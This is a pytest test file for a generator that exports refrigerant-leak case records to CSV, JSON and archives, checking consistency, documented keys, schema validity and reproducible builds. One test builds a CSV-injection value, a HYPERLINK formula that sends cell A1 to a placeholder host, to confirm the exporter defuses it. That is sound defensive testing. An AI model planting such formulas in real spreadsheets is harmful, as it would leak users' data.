"""The data files: CSV and JSON tell the same, every key is documented, schemas hold the demo records."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import tarfile
from collections import Counter
from collections.abc import Iterable
from copy import deepcopy
from dataclasses import replace
from pathlib import Path
from typing import Any

import html5lib
import pytest
import yaml
from jsonschema import Draft202012Validator, FormatChecker
from referencing import Registry, Resource

from analysis.builders import CASES, case, library, step
from leaklore.pages import data, data_cases, data_fields, data_page
from leaklore.pages.book import Book
from leaklore.pages.render import Templates
from leaklore.pages.site import Edition
from leaklore.records.model import Case, Equipment

ROOT = CASES.parent
TODAY = dt.date(2026, 12, 31)
SUMMARIES = ("technique", "component", "refrigerant", "setting", "branch", "symptom")


def loads(content: bytes) -> Any:
    """Strict JSON in UTF-8: NaN and Infinity are none."""

    def refuse(word: str) -> None:
        raise AssertionError(f"{word} is not JSON")

    return json.loads(content.decode("utf-8"), parse_constant=refuse)


def names(fields: Iterable[tuple[str, str]]) -> set[str]:
    """Keys of a table of the data page, some of which share a line."""
    return {name for keys, _ in fields for name in keys.split(", ")}


@pytest.fixture(scope="module")
def made(demo_book: Book) -> dict[str, bytes]:
    """All data files by path."""
    files = data.files(demo_book)
    assert len({f.path for f in files}) == len(files)
    return {f.path: f.content for f in files}


def records_in(table: dict[str, Any]) -> list[dict[str, Any]]:
    """Records of a table: keys once, then rows."""
    return [dict(zip(table["keys"], row, strict=True)) for row in table["rows"]]


def cases_in(files: dict[str, bytes]) -> list[dict[str, Any]]:
    """Every case of all pieces, by number; the search and so on in maps, too."""
    found = [
        record
        for path, content in files.items()
        if path.startswith("data/cases/")
        for record in records_in(loads(content)["cases"])
    ]
    return sorted(found, key=lambda r: str(r["id"]))


def told(book: Book) -> dict[str, Any]:
    """The only case of a book."""
    (piece,) = data_cases.pieces(book)
    (record,) = records_in(loads(data_cases.cases_json(piece, book))["cases"])
    return record


def rows_of(content: bytes) -> list[dict[str, str]]:
    """A CSV file as a spreadsheet reads it."""
    text = content.decode("utf-8")
    assert text.endswith("\r\n"), "lines end as RFC 4180 wants"
    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert {len(row) for row in rows} == {len(rows[0])}
    assert len(set(rows[0])) == len(rows[0])
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def test_csv_and_json_tell_the_same(made: dict[str, bytes]) -> None:
    """Every cell of every case; lists are joined by spaces, unknown is empty."""
    cases = cases_in(made)
    assert made["data/cases.csv"].count(b"\r\n") == made["data/cases.csv"].count(b"\n") == len(cases) + 1
    rows = rows_of(made["data/cases.csv"])
    assert list(rows[0]) == [name for name, _ in data_fields.CASE_FIELDS]
    assert len(rows) == len(cases) > 100
    for row, record in zip(sorted(rows, key=lambda r: r["id"]), cases, strict=True):
        for name, cell in row.items():
            value = record[name]
            if value is None:
                assert cell == "", (record["id"], name)
            elif isinstance(value, bool):
                assert cell == {True: "true", False: "false"}[value]
            elif isinstance(value, list):
                assert cell.split() == value
            elif isinstance(value, int | float):
                assert float(cell) == value
            else:
                assert cell == value, (record["id"], name)


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r"])
def test_cells_that_look_like_formulas_are_defused(sign: str) -> None:
    """A spreadsheet shows them as text, in whatever column; the JSON keeps what was written."""
    text = sign + 'HYPERLINK("http://example.org/?"&A1,"open")'
    risky = case(1, title=text, equipment=Equipment(family=sign + "DS-A"), symptoms=(sign + "ice", "oil"))
    book = Book(library(risky), TODAY)
    row = rows_of(data_cases.cases_csv(book))[0]
    assert row["title"] == "'" + text
    assert row["family"] == "'" + sign + "DS-A"
    assert row["symptoms"].startswith("'" + sign)
    assert told(book)["title"] == text


def test_ordinary_cells_are_left_alone() -> None:
    """Quotes, commas, line breaks and a minus inside survive; negative numbers stay numbers."""
    text = 'He said "hiss", twice\nand - well - left = early'
    early = case(1, title=text, installed="2026-06-01")
    row = rows_of(data_cases.cases_csv(Book(library(early), TODAY)))[0]
    assert row["title"] == text
    assert float(row["age_years"]) < 0


def test_no_cell_of_the_demo_library_begins_like_a_formula(made: dict[str, bytes]) -> None:
    """Text cells, that is: a number may be negative."""
    for row in rows_of(made["data/cases.csv"]):
        for name, cell in row.items():
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)
                assert name == "age_years"


def test_every_file_says_its_version_and_edition(made: dict[str, bytes]) -> None:
    """So that a reader can refuse what it does not know."""
    parts = ("cases", "failure-modes", "techniques", "groups", "systems")
    for name in parts:
        whole = loads(made[f"data/{name}.json"])
        assert whole["version"] == (2 if name in ("cases", "groups", "systems") else 1)
        assert whole["edition"] == "2026-12-31"
        assert list(whole)[:2] == ["version", "edition"]
        assert made[f"data/{name}.json"].endswith(b"}\n")


def test_keys_of_cases_are_those_documented(made: dict[str, bytes]) -> None:
    """None missing, none beyond; the JSON has the search and more."""
    extra = {"search", "readings", "also_found", "follow_up"}
    for record in cases_in(made):
        assert set(record) == names(data_fields.CASE_FIELDS) | extra


def test_keys_of_figures_are_those_documented(made: dict[str, bytes]) -> None:
    """Failure modes, and the groups which say `key` for `mode` and `name`."""
    modes = loads(made["data/failure-modes.json"])["modes"]
    documented = names(data_fields.MODE_FIELDS)
    assert len(modes) > 10
    for record in modes:
        assert set(record) == documented
    groups = loads(made["data/groups.json"])
    assert set(groups) == {"version", "edition", *SUMMARIES}
    for kind in SUMMARIES:
        assert groups[kind]
        for record in groups[kind]:
            assert set(record) == documented - {"mode", "name", "case_ids"} | {"key"}


def test_keys_of_techniques_and_systems_are_those_documented(made: dict[str, bytes]) -> None:
    """Techniques, pairs, isolations avoided, the register."""
    whole = loads(made["data/techniques.json"])
    assert set(whole) == {"version", "edition", "techniques", "versus", "isolations_avoided"}
    for record in whole["techniques"]:
        assert set(record) == names(data_fields.TECHNIQUE_FIELDS)
    assert whole["versus"]
    for record in whole["versus"]:
        assert set(record) == names(data_fields.VERSUS_FIELDS)
    assert set(whole["isolations_avoided"]) == names(data_fields.AVOIDED_FIELDS)
    systems = records_in(loads(made["data/systems.json"])["systems"])
    assert systems
    for record in systems:
        assert set(record) == names(data_fields.SYSTEM_FIELDS)


def test_the_data_page_documents_files_and_keys(demo_book: Book, demo_edition: Edition) -> None:
    """Every key in a table, every file with a link that leads to it."""
    files = [
        f
        for f in demo_edition.files
        if not f.path.startswith(("data/learn/unknown/", "data/learn/questions"))
    ]
    sizes = {f.path: len(f.content) for f in files}
    page = data_page.page(demo_book, Templates(demo_book), sizes)
    tree = html5lib.parse(str(page.body), namespaceHTMLElements=False)
    told = {"".join(code.itertext()) for code in tree.iter("code")}
    for fields in (
        data_fields.PIECE_FIELDS,
        data_fields.CASE_FIELDS,
        data_fields.MODE_FIELDS,
        data_fields.TECHNIQUE_FIELDS,
        data_fields.VERSUS_FIELDS,
        data_fields.AVOIDED_FIELDS,
        data_fields.SYSTEM_FIELDS,
        data_fields.PATTERN_FIELDS,
        data_fields.SURVIVAL_FIELDS,
        data_fields.COST_FIELDS,
    ):
        for keys, means in fields:
            assert keys in told
            assert means
    hrefs = {a.get("href") for a in tree.iter("a")}
    folders = {"data/cases/", "data/records/"}
    own = {f.path for f in files if f.path.startswith("data/") and not f.path.endswith(".csv")}
    own |= {"data/cases.csv", "data/patterns/columns.csv"}
    own = {path for path in own if not path.startswith(tuple(folders))}
    assert {"".join(th.itertext()) for th in tree.iter("th")} >= folders
    for path in own:
        assert f"../{path}" in hrefs, f"{path} is made but not told of"
    assert own <= set(data_fields.WHAT)
    assert set(data_fields.WHAT) <= own | folders | {"feed.xml"}


def test_what_each_record_says_agrees_with_its_other_keys(made: dict[str, bytes]) -> None:
    """counted, share and rate follow from the rest; nothing is negative that can't be."""
    for r in cases_in(made):
        assert r["counted"] == (r["proof"] in ("point", "held") and not r["withdrawn"])
        if r["lost_kg"] is not None and r["charge_kg"]:
            assert r["lost_share"] == pytest.approx(r["lost_kg"] / r["charge_kg"], rel=1e-9)
        if r["lost_kg"] is not None and r["lost_over_s"]:
            rate = r["lost_kg"] / r["lost_over_s"] * 31_557_600 * 1000
            assert r["leak_rate_g_per_year"] == pytest.approx(rate, rel=1e-9)
        assert r["search_minutes"] == sum(minutes for _, _, minutes, _ in r["search"])
        assert r["search_minutes"] >= (r["minutes_to_find"] or 0)


def test_a_loss_of_nothing_is_a_rate_of_zero_and_not_unknown() -> None:
    """The medians count it, so the file must tell it."""
    zero = case(1, lost="0 kg", charge="2 kg", over="1 year")
    record = told(Book(library(zero), TODAY))
    assert record["leak_rate_g_per_year"] == 0
    assert record["lost_share"] == 0
    assert record["minutes_to_find"] is None


def test_withdrawn_cases_are_marked_and_out_of_all_figures(made: dict[str, bytes]) -> None:
    """Their records stay."""
    gone = {r["id"] for r in cases_in(made) if r["withdrawn"]}
    assert gone
    for name in ("failure-modes", "techniques", "groups"):
        text = made[f"data/{name}.json"].decode()
        assert not any(f'"{number}"' in text for number in gone)


def test_addresses_of_cases_and_systems_are_pages(made: dict[str, bytes], demo_edition: Edition) -> None:
    """`url` leads somewhere."""
    urls = {page.url for page in demo_edition.pages}
    for r in cases_in(made):
        assert r["url"] in urls
    for r in records_in(loads(made["data/systems.json"])["systems"]):
        assert f"systems/{r['system']}/" in urls


def test_each_record_is_in_the_archive_of_its_piece(made: dict[str, bytes], demo_book: Book) -> None:
    """Byte for byte as in the library, read by the standard library's own reader; nothing else is in it."""
    found = {}
    for path in (p for p in made if p.startswith("data/records/")):
        with tarfile.open(fileobj=io.BytesIO(made[path]), mode="r:gz") as archive:
            for member in archive.getmembers():
                file = archive.extractfile(member)
                assert file is not None
                found[path, member.name] = file.read()
                assert (member.mode, member.mtime, member.uname) == (0o644, 0, "")
    assert found == {
        (data_cases.records_address(one.id), f"{one.id}.yaml"): (
            CASES / "records" / one.id.split("-")[1] / f"{one.id}.yaml"
        ).read_bytes()
        for one in demo_book.library.cases
    }


def test_a_piece_follows_from_the_number() -> None:
    """Two hundred numbers of one branch and year; the index counts them."""
    for number, piece in (
        ("KW-2024-001", "KW-2024-0"),
        ("KW-2024-199", "KW-2024-0"),
        ("KW-2024-200", "KW-2024-1"),
        ("QRST-2019-99999", "QRST-2019-499"),
    ):
        assert data_cases.piece_of(number) == piece
        assert data_cases.cases_address(number) == f"data/cases/{piece}.json"
    script = (ROOT / "site_overrides/js/bench/prefill.mjs").read_text("utf-8")
    assert f"const NUMBERS = {data_cases.NUMBERS};" in script


def test_the_index_counts_the_cases_of_each_piece(made: dict[str, bytes], demo_book: Book) -> None:
    """All pieces, no other, and each is told to be as large as it is."""
    index = loads(made["data/cases.json"])
    counts = Counter(data_cases.piece_of(c.id) for c in demo_book.library.cases)
    assert index["pieces"] == counts
    assert index["cases"] == counts.total()
    assert {f"data/cases/{piece}.json" for piece in counts} == {
        p for p in made if p.startswith("data/cases/")
    }
    for piece, n in counts.items():
        assert len(loads(made[f"data/cases/{piece}.json"])["cases"]["rows"]) == n <= index["numbers"]


def test_units_together_are_all_files_and_each_is_made_by_itself(
    made: dict[str, bytes], demo_book: Book
) -> None:
    """No file twice, none left out; a fresh book gives the same, whatever was made before."""
    units = data.units(demo_book)
    assert len(set(units)) == len(units)
    for unit in reversed(units):
        fresh = Book(demo_book.library, demo_book.today) if "-" in unit else demo_book
        for file in data.unit_files(fresh, unit):
            assert made[file.path] == file.content


def test_numbers_are_short_but_exact_to_a_billionth() -> None:
    """A pound and a third in kg, not 17 digits of it."""
    record = told(Book(library(case(1, lost="1.3333333 lb")), TODAY))
    assert record["lost_kg"] == pytest.approx(1.3333333 * 0.45359237, rel=1e-11)
    assert len(str(record["lost_kg"])) <= 14


def test_two_builds_are_equal_byte_by_byte(demo_book: Book, made: dict[str, bytes]) -> None:
    """Nothing depends on the hour or on the order of a set."""
    again = {f.path: f.content for f in data.files(Book(demo_book.library, demo_book.today))}
    assert again == made


def test_search_readings_and_further_leaks_are_as_in_the_record(made: dict[str, bytes]) -> None:
    """Step by step, in the written form, in the order of the record."""
    for one in cases_in(made):
        record = load(CASES / "records" / one["id"].split("-")[1] / f"{one['id']}.yaml")
        for group, keys in (
            ("search", ("technique", "at", "minutes", "result")),
            ("readings", ("at", "by", "value", "background")),
            ("also_found", ("mode", "component", "proof")),
            ("follow_up", ("date", "result")),
        ):
            assert one[group] == [[item.get(k) for k in keys] for item in record.get(group, [])]


# Schemas


class Plain(yaml.CSafeLoader):
    """PyYAML without dates: JSON has none."""


Plain.yaml_implicit_resolvers = {
    first: [(tag, pattern) for tag, pattern in pairs if tag != "tag:yaml.org,2002:timestamp"]
    for first, pairs in yaml.CSafeLoader.yaml_implicit_resolvers.items()
}


def load(file: Path) -> Any:
    """A YAML file as JSON would hold it."""
    return yaml.load(file.read_text("utf-8"), Plain)


@pytest.fixture(scope="module")
def schemas(made: dict[str, bytes]) -> dict[str, dict[str, Any]]:
    """The published schemas by name."""
    found = {
        path.split("/")[-1].removesuffix(".schema.json"): loads(content)
        for path, content in made.items()
        if path.startswith("data/schema/")
    }
    assert set(found) == {"actions", "common", "case", "system", "reading", "guide", "company"}
    return found


def validator(schemas: dict[str, dict[str, Any]], name: str, part: str = "") -> Draft202012Validator:
    """A plain validator of JSON Schema 2020-12 that knows nothing of our own keywords."""
    registry: Registry[Any] = Registry().with_resources(
        [(s["$id"], Resource.from_contents(s)) for s in schemas.values()]
    )
    return Draft202012Validator(
        {"$ref": schemas[name]["$id"] + part}, registry=registry, format_checker=FormatChecker()
    )


def faults(checker: Draft202012Validator, instance: Any) -> list[str]:
    """What is wrong, with its place."""
    return [f"{e.json_path}: {e.message[:120]}" for e in checker.iter_errors(instance)]


def test_schemas_are_json_schema_2020_12(schemas: dict[str, dict[str, Any]]) -> None:
    """Against the meta schema; every $ref leads somewhere."""
    for name, schema in schemas.items():
        assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema"
        Draft202012Validator.check_schema(schema)
        assert validator(schemas, name).is_valid(None) in (True, False)  # resolves without error
    ids = {s["$id"] for s in schemas.values()}
    for schema in schemas.values():
        for ref in (n["$ref"] for n in nodes(schema) if "$ref" in n):
            assert ref.split("#")[0] in ids


def nodes(node: Any) -> Iterable[dict[str, Any]]:
    """All maps inside."""
    if isinstance(node, dict):
        yield node
        for value in node.values():
            yield from nodes(value)
    elif isinstance(node, list):
        for value in node:
            yield from nodes(value)


def test_vocabularies_are_filled_in(schemas: dict[str, dict[str, Any]], demo_book: Book) -> None:
    """As the words of this library; branches and crews are the company's and stay open."""
    terms = demo_book.library.vocabulary.terms
    seen = set()
    for schema in schemas.values():
        for node in nodes(schema):
            kind = node.get("x-vocabulary")
            if isinstance(kind, str):
                seen.add(kind)
                if kind in ("branches", "crews"):
                    assert "enum" not in node
                else:
                    assert node["enum"] == list(terms[kind])
                    assert node["enum"], kind
    assert {"modes", "components", "techniques", "symptoms", "refrigerants", "branches"} <= seen


def test_filling_in_leaves_the_loaded_schema_alone(made: dict[str, bytes]) -> None:
    """The check's own schemas have no enum, or a word of the house would be refused there."""
    from leaklore.records import schema

    assert made
    assert not any("enum" in n and "x-vocabulary" in n for n in nodes(schema.load("case")))


def test_every_demo_record_is_valid_by_the_published_schema(schemas: dict[str, dict[str, Any]]) -> None:
    """Cases, register, company and reading lists, by a validator that is not ours."""
    checker = validator(schemas, "case")
    files = sorted((CASES / "records").glob("*/*.yaml"))
    assert len(files) > 100
    for file in files:
        assert faults(checker, load(file)) == [], file.name
    assert faults(validator(schemas, "system"), load(CASES / "systems.yaml")) == []
    assert faults(validator(schemas, "company"), load(CASES / "company.yaml")) == []
    for file in sorted((CASES / "reading").glob("*.yaml")):
        assert faults(validator(schemas, "reading"), load(file)) == [], file.name


def test_every_guide_entry_is_valid_by_the_published_schema(schemas: dict[str, dict[str, Any]]) -> None:
    """Front matter of pages and entries of lists."""
    guide = CASES.parent / "generator" / "leaklore" / "guide"
    for folder, part in (("failure-modes", "failure-mode"), ("techniques", "technique")):
        checker = validator(schemas, "guide", f"#/$defs/{part}")
        files = sorted((guide / folder).glob("*.md"))
        assert files
        for file in files:
            front = file.read_text("utf-8").split("---\n")[1]
            assert faults(checker, yaml.load(front, Plain)) == [], file.name
    for name, part in (("symptoms", "symptom"), ("components", "component"), ("refrigerants", "refrigerant")):
        checker = validator(schemas, "guide", f"#/$defs/{part}")
        for entry in load(guide / f"{name}.yaml"):
            assert faults(checker, entry) == [], (name, entry["key"])


@pytest.mark.parametrize(
    ("change", "where"),
    [
        ({"symptoms": ["oil-fim"]}, "$.symptoms[0]"),
        ({"cause": {"mode": "bad-luck", "component": "indoor-flare", "proof": "point"}}, "$.cause.mode"),
        ({"reported": "2025-02-30"}, "$.reported"),
        ({"id": "KW-2025-14"}, "$.id"),
        ({"tittle": "A word too many"}, "$"),
        ({"search": []}, "$.search"),
        ({"title": 2025}, "$.title"),
    ],
)
def test_the_published_schema_refuses_what_is_wrong(
    change: dict[str, Any], where: str, schemas: dict[str, dict[str, Any]]
) -> None:
    """A schema that lets everything pass would pass every test above."""
    good = load(CASES / "records" / "2025" / "KW-2025-014.yaml")
    checker = validator(schemas, "case")
    assert faults(checker, good) == []
    told = faults(checker, {**deepcopy(good), **change})
    assert [t for t in told if t.startswith(where + ":")], told


def test_an_unpriced_library_has_nulls(tmp_path: Path) -> None:
    """No isolation of our own, no price; no step, no yield."""
    one = replace(case(1, step("bubbles", "flare", "pinpointed")), avoided=None)
    whole = loads(data.techniques_json(Book(library(one), TODAY)))
    assert whole["isolations_avoided"]["median_cost"] is None
    assert whole["isolations_avoided"]["saved"] is None
    unused = next(t for t in whole["techniques"] if t["technique"] == "visual")
    assert (unused["yield"], unused["finding"], unused["used"]) == (None, False, 0)
    assert isinstance(one, Case)
